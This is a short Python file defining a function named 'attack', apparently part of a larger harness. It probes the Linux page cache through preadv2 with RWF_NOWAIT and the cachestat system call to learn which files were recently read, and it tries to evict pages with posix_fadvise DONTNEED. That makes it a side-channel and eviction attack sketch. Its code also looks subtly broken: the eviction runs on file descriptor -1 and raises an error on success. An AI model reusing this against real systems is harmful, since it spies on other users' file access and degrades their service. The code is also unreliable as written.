import ctypes
import os

from common import gained, libc, system_call

RWF_NOWAIT, DONTNEED = 8, 4


def attack(facts):
    """Find out which files of the machine were read lately, and make it forget those that others need."""
    shared = os.open(os.__file__, os.O_RDONLY)
    buffer = ctypes.create_string_buffer(64)

    class Vector(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

    vector = Vector(ctypes.addressof(buffer), 64)

    def forget():
        if libc.posix_fadvise(-1, ctypes.c_long(0), ctypes.c_long(0), DONTNEED) == 0:
            raise OSError("not done")
        return "the kernel was asked"

    return gained(
        remembered=lambda: system_call(327, shared, ctypes.byref(vector), 1, 0, 0, RWF_NOWAIT),
        counted=lambda: system_call(451, shared, ctypes.byref(vector), ctypes.byref(buffer), 0),
        forget=forget,
    )
